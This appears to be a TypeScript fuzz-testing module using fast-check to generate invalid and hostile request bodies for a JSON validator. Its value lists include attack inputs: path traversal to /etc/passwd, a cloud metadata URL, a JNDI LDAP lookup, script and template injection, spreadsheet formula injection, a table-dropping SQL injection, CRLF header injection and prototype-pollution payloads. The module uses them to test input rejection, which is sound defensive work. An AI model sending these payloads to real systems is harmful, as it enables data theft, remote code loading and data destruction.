import fc from 'fast-check'
import { type Fields, fields, fieldsOf, raw, words, write } from './text.ts'

/** Invalid numbers: too large, too precise, or written in forms that JSON does not have. */
const numbers = words(`NaN Infinity -Infinity 1e309 -1e309 -0 0 -1 1e-400 0.1 10.005 1e2 1E+2 9007199254740992
  9007199254740993 -9007199254740992 9223372036854775808 18446744073709551616 1e21 2147483648 01 +1 0x10 1_000 .5 5. 1e
  0.30000000000000004 99999999999999.99`).map(raw)

/** Texts that look like numbers, days, ids or code, and texts that often cause faults. */
export const nastyTexts: readonly string[] = [
  ...words(`10.005 1e3 -0 -1 NaN Infinity 1e309 0x10 ١٠ １０ 10,00 $10 0.001 00010.00 +10 .5 5. 9007199254740993 0 0.00
    2027-02-30 0000-00-00 9999-12-31 10000-01-01 275760-09-13 +010000-01-01 2027-13-01 2027-03-01T25:00:00Z
    2027-03-01T00:00:00+99:99 -000001-01-01 1970-01-01 2027-3-1
    __proto__ constructor toString null undefined {} $1 %s%n %00 % \\ " ' a@b @
    ../../../etc/passwd ..%2f..%2f file:///etc/passwd http://169.254.169.254/ //evil.example
    $\u007bjndi:ldap://x} {{7*7}} <script>alert(1)</script> =HYPERLINK("http://x") @SUM(A1) -2+3 javascript:alert(1)
    00000000-0000-0000-0000-000000000000 goal-1 $all $$goal-1 1:round-1 admin GOAL-1 0_0_1:a`),
  ...['10.00 ', '\t10', 'Invalid Date', '[object Object]', "'; drop table accounts.users; --", '" or ""="'],
  ...['', ' ', '\u3164', '\0', 'a\0b', '\r\nBcc: x@example.com', '\r\n\r\nHTTP/1.1 200 OK', '\u2028'],
  ...['\u202eevil', '\ufeff', '\u0301'.repeat(200), '😀'.repeat(70), `${'x'.repeat(59)}😀`, 'ﷺ'.repeat(40)],
  ...['İ'.repeat(50), '9'.repeat(400), `0.${'0'.repeat(300)}1`, 'x'.repeat(5_000), 'a@'.repeat(200)],
]

const halves = ['\\ud800', 'a\\udc00b', '\\ud83d\\ud83d', '\\u0000', '\\x00'].map(text => raw(`"${text}"`))
const nested = (open: string, close: string, depth: number) => raw(open.repeat(depth) + close.repeat(depth))
const shapes: readonly unknown[] = [
  ...[null, true, false, [], {}, [[]], [null], { length: 1 }, { length: -1, 0: 'x' }],
  ...[{ toString: null, valueOf: [] }, { toJSON: 1 }, { $gt: '' }, { '': '' }],
  ...[fields(['__proto__', { isAdmin: true }]), fields(['then', 'x'])],
  ...[nested('[', ']', 500), nested('[', ']', 5_000), nested('{"a":', '1}', 1).raw],
  ...[Array.from({ length: 2_000 }, () => 0), Array.from({ length: 60 }, (_, n) => String(n))],
]

export const nasty: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(...numbers),
  fc.constantFrom(...nastyTexts),
  fc.constantFrom(...halves),
  fc.constantFrom(...shapes),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.double().map(number => raw(String(number))),
  fc
    .anything({ maxDepth: 2, withNullPrototype: false })
    .map(value => JSON.parse(JSON.stringify(value) ?? '0')),
)

const names = fc.constantFrom(
  ...words('__proto__ constructor prototype isAdmin id userId toString hasOwnProperty amountMinor'),
  ...words('0 length status currentAmount'),
  ...['', 'a\0', 'x'.repeat(200), `${'x'.repeat(59)}😀`, '\ud83d'],
)

/** A valid body with some faults: in a value, a name, a repetition, or the surrounding structure. */
export const spoilt = (body: fc.Arbitrary<unknown>): fc.Arbitrary<unknown> =>
  fc
    .tuple(body, fc.array(fc.tuple(fc.nat(), nasty, names, fc.nat(5)), { minLength: 1, maxLength: 3 }))
    .map(([made, wrongs]) => wrongs.reduce(spoil, made))

const spoil = (body: unknown, [at, bad, name, how]: readonly [number, unknown, string, number]): unknown => {
  if (Array.isArray(body) && body.length > 0 && how > 0)
    return body.with(at % body.length, spoil(body[at % body.length], [at >>> 3, bad, name, how]))
  const list = fieldsOf(body)
  if (!list || list.length === 0) return how === 1 ? fields([name, bad]) : bad
  const place = at % list.length
  const [field, value] = list[place] as Fields['fields'][number]
  const inner = fieldsOf(value) || Array.isArray(value)
  if (inner && how > 1) return fields(...list.with(place, [field, spoil(value, [at >>> 3, bad, name, how])]))
  if (how === 0) return fields(...list.toSpliced(place, 1))
  if (how === 1) return fields(...list, [name, bad])
  if (how === 2) return fields(...list, [field, bad])
  if (how === 3) return fields(...list.with(place, [field, [value, bad]]))
  return fields(...list.with(place, [field, bad]))
}

/** Bodies that are invalid as a whole, for any schema. */
export const whole: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    ...words(`null [] "x" 1 true { {" {"a": {"a":1 {"a":1,} {'a':1} {a:1} } \ufeff{} {}{} {}x /**/{} {"a":"\\u12"} [1,] a=b&c=d
      <a/> {"":""} {"__proto__":null} {"__proto__":{"isAdmin":true}} {"constructor":{"prototype":{"isAdmin":true}}}`),
    ...['', ' ', '{"a":"\t"}', '\0'],
    ...['['.repeat(30_000), '['.repeat(30_000) + ']'.repeat(30_000), '{"a":'.repeat(12_000)],
    `{"a":"${'x'.repeat(64_000)}"}`,
  ),
  fc.nat(20).map(n => `{"a":"${'x'.repeat(65_000 + 50_000 * n)}"}`),
  fc.string({ unit: 'binary', maxLength: 200 }),
  fc.json(),
  nasty.map(write),
)

/** A truncated body, or one with an extra character. */
export const damaged = (text: fc.Arbitrary<string>): fc.Arbitrary<string> =>
  fc
    .tuple(text, fc.nat(), fc.constantFrom('', '"', '\\', '{', '}', ',', '\0', '\u{1f600}', ':', 'e'))
    .map(([all, at, sign]) => {
      const place = at % (all.length + 1)
      return sign === '' ? all.slice(0, place) : all.slice(0, place) + sign + all.slice(place)
    })
